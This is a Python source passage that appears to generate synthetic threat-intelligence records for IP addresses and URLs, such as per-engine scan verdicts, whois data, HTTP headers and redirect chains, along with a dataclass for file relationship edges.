def ip_attributes(spec: IPSpec) -> dict:
    results = eng.host_results(eng.HOST_ENGINES, salt=spec.ip, malicious=spec.malicious,
                               suspicious=spec.suspicious, verdict=spec.verdict)
    attrs = {
        "asn": spec.asn, "as_owner": spec.as_owner, "country": spec.country, "continent": spec.continent,
        "network": spec.network, "regional_internet_registry": spec.rir, "whois": ip_whois(spec),
        "whois_date": spec.analysed - 5 * DAY, "reputation": spec.reputation, "tags": list(spec.tags),
        "last_analysis_date": spec.analysed, "last_modification_date": spec.analysed + 20 * 60,
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results, kind="host"),
        "total_votes": {"harmless": 0, "malicious": 0},
        "jarm": "3fd3fd0003fd3fd0003fd3fd3fd3fd" + hexid("jarm", spec.ip, n=32),
    }
    if spec.context:
        attrs["crowdsourced_context"] = [
            {"title": title, "details": details, "severity": severity, "timestamp": spec.analysed - 6 * DAY,
             "source": "Example Threat Exchange"} for title, details, severity in spec.context]
    if spec.tls_host:
        attrs["last_https_certificate"] = certificate(spec.tls_host, ("US", "Example Trust Services", "ETS R3"),
                                                      spec.analysed - 20 * DAY)
        attrs["last_https_certificate_date"] = spec.analysed
    return attrs


# --- URLs ---------------------------------------------------------------------------


def url_attributes(spec: URLSpec) -> dict:
    from urllib.parse import urlsplit

    results = eng.host_results(eng.URL_ENGINES, salt=spec.url, malicious=spec.malicious,
                               suspicious=spec.suspicious, verdict=spec.verdict)
    chain = list(spec.redirects) or [spec.url]
    final = chain[-1]
    host = urlsplit(spec.url).hostname or ""
    day = _dt.datetime.fromtimestamp(spec.analysed, _dt.UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
    headers = {"date": day, "content-type": spec.content_type, "server": spec.server,
               "content-length": str(spec.content_length), "connection": "keep-alive", "cache-control": "no-store"}
    if spec.status in (301, 302):
        headers["location"] = chain[1] if len(chain) > 1 else spec.url
    attrs = {
        "url": spec.url, "last_final_url": final, "redirection_chain": chain, "title": spec.title,
        "tld": host.rsplit(".", 1)[-1] if "." in host and not host.replace(".", "").isdigit() else "",
        "last_http_response_code": spec.status, "last_http_response_content_length": spec.content_length,
        "last_http_response_content_sha256": hexid("body", spec.url),
        "last_http_response_headers": headers, "last_http_response_cookies": {},
        "html_meta": {"viewport": ["width=device-width, initial-scale=1"]} if "html" in spec.content_type else {},
        "outgoing_links": list(spec.outgoing), "categories": dict(spec.categories), "threat_names": list(spec.threat_names),
        "tags": list(spec.tags), "trackers": {}, "targeted_brand": {},
        "first_submission_date": spec.first_seen, "last_submission_date": spec.analysed,
        "last_analysis_date": spec.analysed, "last_modification_date": spec.analysed + 4 * 60,
        "times_submitted": spec.times_submitted, "reputation": spec.reputation,
        "total_votes": {"harmless": 0, "malicious": 0},
        "last_analysis_results": results, "last_analysis_stats": eng.stats_of(results, kind="host"),
    }
    return attrs


@dataclass
class Edges:
    """Forward edges of a file (the reverse ones are derived)."""

    contacted_domains: list[str] = field(default_factory=list)
    contacted_ips: list[str] = field(default_factory=list)
    contacted_urls: list[str] = field(default_factory=list)
    dropped_files: list[str] = field(default_factory=list)  # keys of FileSpecs
    execution_parents: list[str] = field(default_factory=list)
    bundled_files: list[str] = field(default_factory=list)
